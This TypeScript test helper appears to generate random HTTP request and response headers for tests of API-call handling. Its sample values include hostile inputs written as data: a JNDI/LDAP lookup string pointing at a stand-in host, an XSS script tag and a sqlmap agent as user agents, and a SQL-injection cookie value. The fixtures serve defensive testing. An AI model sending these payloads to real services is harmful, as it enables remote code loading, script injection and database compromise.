import type { HeaderMap } from '../../model/api-call.ts';
import type { Draw, Oddness } from './example-bodies.test.ts';
import { ATTACKS, jwt, once, pick, plainText, type Random, type Theme, uuid } from './example-values.test.ts';

/** Headers of made calls; no test of its own. */

export type HeaderValue = (random: Random) => string | readonly string[];

export interface HeaderForm {
  readonly name: string;
  readonly value: HeaderValue;
  readonly missing: number;
}

export const header = (name: string, vary: HeaderValue, missing = 0): HeaderForm => ({
  name,
  value: vary,
  missing,
});

const AGENTS = [
  'shop-app/4.1',
  'shop-app/4.1',
  'sqlmap/1.7',
  '<script>alert(1)</script>',
  '${jndi:ldap://a.example}',
  '',
] as const;

export const fixed =
  (text: string): HeaderValue =>
  () =>
    text;
export const themed =
  (theme: Theme): HeaderValue =>
  (random) =>
    plainText(theme, random);
export const among =
  (...values: readonly [string, ...string[]]): HeaderValue =>
  (random) =>
    pick(random, values);

export const AUTHORIZATIONS: readonly [HeaderValue, ...HeaderValue[]] = [
  (random) => `Bearer ${jwt(random)}`,
  (random) => `Bearer ${jwt(random)}`,
  (random) => `Bearer tok${random(5)}`,
  (random) => `Basic ${Buffer.from(`u${random(5)}:p`).toString('base64')}`,
  among('Bearer ***', 'Bearer null', 'Bearer', '', '***', 'Basic [REDACTED]', 'Bearer abcd****'),
  (random) => `AWS4-HMAC-SHA256 Credential=a${random(3)}`,
  (random) => `Digest username="u${random(3)}"`,
  (random) => `ApiKey k${random(9)}`,
  (random) => `${random(9)}`,
  (random) => pick(random, AUTHORIZATIONS)(random),
];

export type KnownHeaders = readonly [readonly [string, HeaderValue], ...(readonly [string, HeaderValue])[]];

export const REQUEST_HEADERS: KnownHeaders = [
  ['user-agent', (random) => pick(random, AGENTS)],
  ['accept', fixed('application/json')],
  ['x-request-id', uuid],
  ['traceparent', (random) => `00-${uuid(random).replaceAll('-', '')}-00f067aa0ba902b7-01`],
  ['x-api-key', among('k1', 'k2', '***', '', 'null', 'k3')],
  ['x-auth-token', (random) => pick(random, [jwt(random), 'opaque1', '***'])],
  [
    'cookie',
    (random) => `sid=${random(3)}; theme=${plainText('states', random)}; t=${plainText('secrets', random)}`,
  ],
  ['cookie', among('', '***', 'a', 'theme=dark', 'session="s1"', "a=' or '1'='1")],
  ['x-tenant', themed('manyStates')],
  ['x-customer-email', themed('emails')],
  ['idempotency-key', uuid],
  ['origin', (random) => `https://o${random(9)}.${pick(random, ['example', 'shop.example'])}`],
  ['x-forwarded-for', among('192.0.2.9', '10.0.0.1, 192.0.2.9')],
  ['x-amz-target', among('DynamoDB_20120810.GetItem', 'DynamoDB_20120810.PutItem', 'none')],
  ['x-hub-signature-256', among('sha256=aa', '')],
  ['ssl-client-verify', among('SUCCESS', 'NONE', '-')],
  ['x-attack', (random) => (once(random, 3) ? pick(random, ATTACKS) : 'fine')],
  ['content-encoding', among('gzip', 'identity', 'br')],
  ['x-list', (random) => Array.from({ length: random(3) }, () => plainText('states', random))],
  ['X-Upper', themed('states')],
  ['10042', themed('states')],
  ['ada@mail.example', themed('states')],
];
export const RESPONSE_HEADERS: KnownHeaders = [
  ['date', fixed('Thu, 01 Oct 2026 22:00:00 GMT')],
  ['etag', (random) => `"${random(1000)}"`],
  ['x-ratelimit-remaining', themed('small')],
  ['ratelimit', fixed('"default";r=50;t=30')],
  ['retry-after', themed('small')],
  ['sunset', among('Sun, 30 Jun 2030 23:59:59 GMT', 'Mon, 30 Jun 2031 23:59:59 GMT', 'soon')],
  ['deprecation', among('true', 'false', '@1688169599', 'Sun, 30 Jun 2030 23:59:59 GMT')],
  ['access-control-allow-origin', (random) => pick(random, ['*', 'null', `https://o${random(9)}.example`])],
  ['access-control-allow-credentials', among('true', 'TRUE ', 'false')],
  [
    'set-cookie',
    (random) =>
      Array.from(
        { length: random(3) },
        (_, at) => `${pick(random, ['sid', 'theme', 'a'])}${at}=${plainText('states', random)}; Path=/`,
      ),
  ],
  ['set-cookie', (random) => `session=${uuid(random)}; HttpOnly`],
  ['location', among('/login', '/v1/orders/7', 'https://login.shop.example/', '/account/login?next=1')],
  ['x-next', themed('formats')],
  ['x-owner', themed('emails')],
  ['x-state', themed('manyStates')],
  ['server', among('nginx', 'nginx/1.18.0')],
  ['content-encoding', among('gzip', 'identity')],
];

export function headersOf(
  random: Random,
  known: KnownHeaders,
  type: string | null,
  more: readonly HeaderForm[],
): readonly HeaderForm[] | null {
  if (once(random, 5)) return null;
  const forms = Array.from({ length: random(5) }, (): HeaderForm => {
    const [name, vary] = pick(random, known);
    const first = vary(random);
    return { name, value: random(3) > 0 ? vary : () => first, missing: pick(random, [0, 0, 3]) };
  });
  const typed = type === null ? [] : [{ name: 'content-type', value: fixed(type), missing: 0 }];
  return once(random, 2) ? [...forms, ...typed, ...more] : [...typed, ...forms, ...more];
}

export function headerMap(forms: readonly HeaderForm[] | null, draw: Draw, odd: Oddness): HeaderMap | null {
  const { structure, values } = draw;
  if (forms === null || once(structure, odd.message)) return forms === null ? null : {};
  const sent = forms.filter(({ missing }) => !once(structure, missing));
  if (once(structure, odd.structure)) sent.reverse();
  const made = sent.map(({ name, value: vary }): [string, string | readonly string[]] => [
    name,
    vary(values),
  ]);
  if (once(structure, odd.message)) {
    const [name, vary] = pick(structure, REQUEST_HEADERS);
    made.push([name, vary(values)]);
  }
  return Object.fromEntries(made);
}
